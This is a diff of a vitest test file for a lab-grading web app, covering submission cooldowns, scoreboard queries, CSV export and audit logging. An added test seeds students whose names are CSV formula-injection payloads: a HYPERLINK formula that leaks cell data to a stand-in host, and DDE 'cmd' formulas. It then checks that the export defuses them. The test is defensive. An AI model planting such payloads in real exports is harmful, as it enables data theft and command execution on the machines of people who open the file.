@@ -1,14 +1,15 @@
 // Submitting, joining, the cooldown, regrades, cancelling, and the scoreboard with its CSV export.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
-import { agents, setup, type Agent, type Harness } from './helpers.ts';
+import { agents, PASSWORD, setup, type Agent, type Harness } from './helpers.ts';
 import { toLabView } from '../src/lib/labs.ts';
 import { queryScoreboard } from '../src/lib/scoreboard.ts';
 import { seed } from '../src/seed.ts';
 
 let h: Harness;
 let as: Awaited<ReturnType<typeof agents>>;
-const SUBMIT = 'mutation($l: ID!) { submitRun(labId: $l) { joined run { id namespace status queuePosition estimatedWaitSeconds } cooldown { tokensAvailable retryAfterSeconds } } }';
+const SUBMIT =
+  'mutation($l: ID!) { submitRun(labId: $l) { joined run { id namespace status queuePosition estimatedWaitSeconds } cooldown { tokensAvailable retryAfterSeconds } } }';
 
 beforeAll(async () => {
   h = await setup({ COOLDOWN_BURST: '2', COOLDOWN_RATE_PER_MINUTE: '1' });
@@ -18,7 +19,19 @@ afterAll(async () => {
   await h?.close();
 });
 
-type SubmitData = { submitRun: { joined: boolean; run: { id: string; namespace: string; status: string; queuePosition: number | null; estimatedWaitSeconds: number | null }; cooldown: { tokensAvailable: number; retryAfterSeconds: number } } };
+type SubmitData = {
+  submitRun: {
+    joined: boolean;
+    run: {
+      id: string;
+      namespace: string;
+      status: string;
+      queuePosition: number | null;
+      estimatedWaitSeconds: number | null;
+    };
+    cooldown: { tokensAvailable: number; retryAfterSeconds: number };
+  };
+};
 
 describe('submitting', () => {
   it('two submissions for one namespace make one run (the second joins it)', async () => {
@@ -52,29 +65,46 @@ describe('submitting', () => {
     for (let i = 0; i < 2; i++) {
       const ok = await as.student.gql<SubmitData>(SUBMIT, { l: h.labId });
       expect(ok.data?.submitRun.joined).toBe(false);
-      await h.db.gradingRun.update({ where: { id: ok.data!.submitRun.run.id }, data: { status: 'FAILED', finishedAt: new Date(), score: 10 } });
+      await h.db.gradingRun.update({
+        where: { id: ok.data!.submitRun.run.id },
+        data: { status: 'FAILED', finishedAt: new Date(), score: 10 },
+      });
     }
     const refused = await as.student.gql<SubmitData>(SUBMIT, { l: h.labId });
     const err = refused.errors?.[0];
-    expect({ code: err?.extensions?.code, wait: (err?.extensions?.retryAfterSeconds ?? 0) > 0 }).toEqual({ code: 'COOLDOWN', wait: true });
+    expect({ code: err?.extensions?.code, wait: (err?.extensions?.retryAfterSeconds ?? 0) > 0 }).toEqual({
+      code: 'COOLDOWN',
+      wait: true,
+    });
     expect(err?.message).toMatch(/again in \d+ s/);
   });
 
   it('myLabs shows the cooldown the page needs', async () => {
-    const res = await as.student.gql<{ myLabs: { lab: { id: string }; cooldown: { retryAfterSeconds: number } }[] }>('{ myLabs { lab { id } cooldown { retryAfterSeconds } } }');
+    const res = await as.student.gql<{
+      myLabs: { lab: { id: string }; cooldown: { retryAfterSeconds: number } }[];
+    }>('{ myLabs { lab { id } cooldown { retryAfterSeconds } } }');
     expect(res.data?.myLabs.find((m) => m.lab.id === h.labId)?.cooldown.retryAfterSeconds).toBeGreaterThan(0);
   });
 
   it('a disabled lab cannot be submitted', async () => {
-    await as.admin.gql('mutation($l: ID!) { setLabEnabled(labId: $l, enabled: false) { id } }', { l: 'pv-claimref' });
+    await as.admin.gql('mutation($l: ID!) { setLabEnabled(labId: $l, enabled: false) { id } }', {
+      l: 'pv-claimref',
+    });
     const res = await as.otherStudent.gql(SUBMIT, { l: 'pv-claimref' });
     expect(res.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
-    await as.admin.gql('mutation($l: ID!) { setLabEnabled(labId: $l, enabled: true) { id } }', { l: 'pv-claimref' });
+    await as.admin.gql('mutation($l: ID!) { setLabEnabled(labId: $l, enabled: true) { id } }', {
+      l: 'pv-claimref',
+    });
   });
 
   it('bad input is refused with BAD_USER_INPUT naming the field', async () => {
-    const res = await as.instructor.gql('query($l: ID!) { scoreboard(labId: $l, first: 0) { total } }', { l: h.labId });
-    expect({ code: res.errors?.[0]?.extensions?.code, msg: /first/.test(res.errors?.[0]?.message ?? '') }).toEqual({ code: 'BAD_USER_INPUT', msg: true });
+    const res = await as.instructor.gql('query($l: ID!) { scoreboard(labId: $l, first: 0) { total } }', {
+      l: h.labId,
+    });
+    expect({
+      code: res.errors?.[0]?.extensions?.code,
+      msg: /first/.test(res.errors?.[0]?.message ?? ''),
+    }).toEqual({ code: 'BAD_USER_INPUT', msg: true });
   });
 });
 
@@ -87,7 +117,12 @@ describe('scoreboard', () => {
     const extra = await seed(h.db, {
       courseSlug: 'k8s-storage',
       instructor: { email: 'teacher@example.edu', password: 'correct horse battery' },
-      students: ['cat', 'dan', 'eve', 'fay'].map((n, i) => ({ email: `${n}@example.edu`, name: `${n.toUpperCase()} Student`, studentId: `x${i}`, namespace: n })),
+      students: ['cat', 'dan', 'eve', 'fay'].map((n, i) => ({
+        email: `${n}@example.edu`,
+        name: `${n.toUpperCase()} Student`,
+        studentId: `x${i}`,
+        namespace: n,
+      })),
     });
     const plan: Record<string, string[]> = {
       cat: ['PASS', 'PASS', 'PASS', 'PASS', 'PASS'],
@@ -99,7 +134,10 @@ describe('scoreboard', () => {
       const statuses = plan[s.namespace];
       if (!statuses) continue;
       // An older, worse run first: best score must still come from the max.
-      for (const [age, st] of [[2, statuses.map(() => 'FAIL')], [1, statuses]] as const) {
+      for (const [age, st] of [
+        [2, statuses.map(() => 'FAIL')],
+        [1, statuses],
+      ] as const) {
         const score = st.reduce((sum, x, i) => sum + (x === 'PASS' ? points[i]! : 0), 0);
         await h.db.gradingRun.create({
           data: {
@@ -113,7 +151,15 @@ describe('scoreboard', () => {
             queuedAt: new Date(Date.now() - age * 60000),
             startedAt: new Date(Date.now() - age * 60000),
             finishedAt: new Date(Date.now() - age * 60000 + 5000),
-            checks: { create: st.map((x, i) => ({ checkId: checkIds[i]!, position: i, status: x as 'PASS', points: x === 'PASS' ? points[i]! : 0, maxPoints: points[i]! })) },
+            checks: {
+              create: st.map((x, i) => ({
+                checkId: checkIds[i]!,
+                position: i,
+                status: x as 'PASS',
+                points: x === 'PASS' ? points[i]! : 0,
+                maxPoints: points[i]!,
+              })),
+            },
           },
         });
       }
@@ -121,12 +167,27 @@ describe('scoreboard', () => {
     names = ['Ann Li', 'Bob Wu', 'CAT Student', 'DAN Student', 'EVE Student', 'FAY Student'];
   });
 
-  type Sb = { scoreboard: { total: number; rows: { namespace: string; score: number | null; bestScore: number | null; cells: { checkId: string; status: string }[]; student: { name: string }; latestRun: { id: string } | null }[]; passRateByCheck: { checkId: string; passed: number; graded: number; rate: number }[]; scoreDistribution: { from: number; to: number; count: number }[] } };
+  type Sb = {
+    scoreboard: {
+      total: number;
+      rows: {
+        namespace: string;
+        score: number | null;
+        bestScore: number | null;
+        cells: { checkId: string; status: string }[];
+        student: { name: string };
+        latestRun: { id: string } | null;
+      }[];
+      passRateByCheck: { checkId: string; passed: number; graded: number; rate: number }[];
+      scoreDistribution: { from: number; to: number; count: number }[];
+    };
+  };
   const Q = `query($l: ID!, $f: ScoreboardFilter, $s: ScoreboardSort, $d: Boolean, $n: Int, $o: Int) {
     scoreboard(labId: $l, filter: $f, sort: $s, desc: $d, first: $n, offset: $o) {
       total rows { namespace score bestScore student { name } latestRun { id } cells { checkId status } }
       passRateByCheck { checkId passed graded rate } scoreDistribution { from to count } } }`;
-  const sb = async (vars: Record<string, unknown>) => (await as.instructor.gql<Sb>(Q, { l: h.labId, ...vars })).data!.scoreboard;
+  const sb = async (vars: Record<string, unknown>) =>
+    (await as.instructor.gql<Sb>(Q, { l: h.labId, ...vars })).data!.scoreboard;
 
   it('lists every enrolled student sorted by name', async () => {
     expect((await sb({})).rows.map((r) => r.student.name)).toEqual(names);
@@ -140,11 +201,16 @@ describe('scoreboard', () => {
     expect(eve.cells.map((c) => c.status)).toEqual(['PASS', 'PASS', 'FAIL', 'SKIPPED', 'SKIPPED']);
   });
   it('filters by a check status', async () => {
-    expect((await sb({ f: { checkId: 'pvc-bound', status: 'FAIL' } })).rows.map((r) => r.namespace)).toEqual(['dan']);
+    expect((await sb({ f: { checkId: 'pvc-bound', status: 'FAIL' } })).rows.map((r) => r.namespace)).toEqual([
+      'dan',
+    ]);
   });
   it('sorts by score descending and paginates', async () => {
     const page = await sb({ s: 'SCORE', d: true, n: 2, o: 0 });
-    expect({ total: page.total, ns: page.rows.map((r) => r.namespace) }).toEqual({ total: 6, ns: ['cat', 'eve'] });
+    expect({ total: page.total, ns: page.rows.map((r) => r.namespace) }).toEqual({
+      total: 6,
+      ns: ['cat', 'eve'],
+    });
   });
   it('reports the pass rate per check', async () => {
     const rate = (await sb({})).passRateByCheck.find((c) => c.checkId === 'pvc-bound')!;
@@ -162,7 +228,10 @@ describe('scoreboard', () => {
   });
 
   it('the CSV export has the same rows and values as the scoreboard query', async () => {
-    const res = await as.instructor.request('GET', `/export/scoreboard/${h.labId}.csv?status=PASS&checkId=pv-claimref`);
+    const res = await as.instructor.request(
+      'GET',
+      `/export/scoreboard/${h.labId}.csv?status=PASS&checkId=pv-claimref`,
+    );
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     const csv = parse(res.body, { columns: true }) as Record<string, string>[];
     const lab = toLabView(await h.db.lab.findUniqueOrThrow({ where: { id: h.labId } }));
@@ -179,16 +248,61 @@ describe('scoreboard', () => {
         best_score: r.bestScore == null ? '' : String(r.bestScore),
         status: r.latestStatus ?? 'NOT_GRADED',
         last_graded_at: r.lastGradedAt ? r.lastGradedAt.toISOString() : '',
+        final_score: r.finalScore == null ? '' : String(r.finalScore),
+        counted_run_id: r.countedRunId ?? '',
+        late_deduction_percent: String(r.latePercent),
+        adjustment: String(r.adjustment),
       })),
     );
     expect(csv.map((r) => r.namespace)).toEqual(['cat', 'dan', 'eve']);
   });
 });
 
+describe('CSV formula injection', () => {
+  it('cells a spreadsheet would run as formulas are exported as text', async () => {
+    const evil = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '-2+3',
+      '\t=1+2',
+      '\r=1+2',
+    ];
+    await seed(h.db, {
+      courseSlug: 'k8s-storage',
+      instructor: { email: 'teacher@example.edu', name: 'Teacher', password: PASSWORD },
+      students: evil.map((name, i) => ({
+        email: `evil${i}@example.edu`,
+        name,
+        studentId: i === 0 ? '=1+2' : `evil-id-${i}`,
+        namespace: `evil-${i}`,
+      })),
+    });
+    const res = await as.instructor.request('GET', `/export/scoreboard/${h.labId}.csv?search=evil`);
+    const rows = parse(res.body, { columns: true, relax_quotes: true }) as Record<string, string>[];
+    const cells = rows.flatMap((r) => [r.name!, r.student_id!]);
+    expect({
+      rows: rows.length,
+      dangerous: cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
+      names: rows.map((r) => r.name).sort(),
+      firstId: rows.find((r) => r.email === 'evil0@example.edu')?.student_id,
+    }).toEqual({
+      rows: evil.length,
+      dangerous: [],
+      names: evil.map((n) => `'${n}`).sort(),
+      firstId: "'=1+2",
+    });
+  });
+});
+
 describe('audit', () => {
   it('records submissions, regrades, cancellations and lab changes', async () => {
     const actions = new Set((await h.db.auditEntry.findMany()).map((a) => a.action));
-    expect(['run.submit', 'run.join', 'run.regrade', 'run.cancel', 'lab.enabled', 'auth.login'].filter((a) => !actions.has(a))).toEqual([]);
+    expect(
+      ['run.submit', 'run.join', 'run.regrade', 'run.cancel', 'lab.enabled', 'auth.login'].filter(
+        (a) => !actions.has(a),
+      ),
+    ).toEqual([]);
   });
 });
 
@@ -207,10 +321,15 @@ describe('every type resolves', () => {
       auditLog(first: 5) { id at actor action subject reason before after }
     }`;
     const res = await as.admin.gql<{ runs: { total: number } }>(q);
-    expect({ errors: res.errors, hasRuns: (res.data?.runs.total ?? 0) > 0 }).toEqual({ errors: undefined, hasRuns: true });
+    expect({ errors: res.errors, hasRuns: (res.data?.runs.total ?? 0) > 0 }).toEqual({
+      errors: undefined,
+      hasRuns: true,
+    });
   });
-  it('a student\'s own view (myLabs, scoreboard-free) resolves fully', async () => {
-    const res = await as.student.gql(`{ myLabs { lab { id maxScore } enrollment { id namespace course { slug } user { email } } latestRun { id status checks { checkId status } } bestScore cooldown { tokensAvailable retryAfterSeconds } } }`);
+  it("a student's own view (myLabs, scoreboard-free) resolves fully", async () => {
+    const res = await as.student.gql(
+      `{ myLabs { lab { id maxScore } enrollment { id namespace course { slug } user { email } } latestRun { id status checks { checkId status } } bestScore cooldown { tokensAvailable retryAfterSeconds } } }`,
+    );
     expect(res.errors).toBeUndefined();
   });
 });
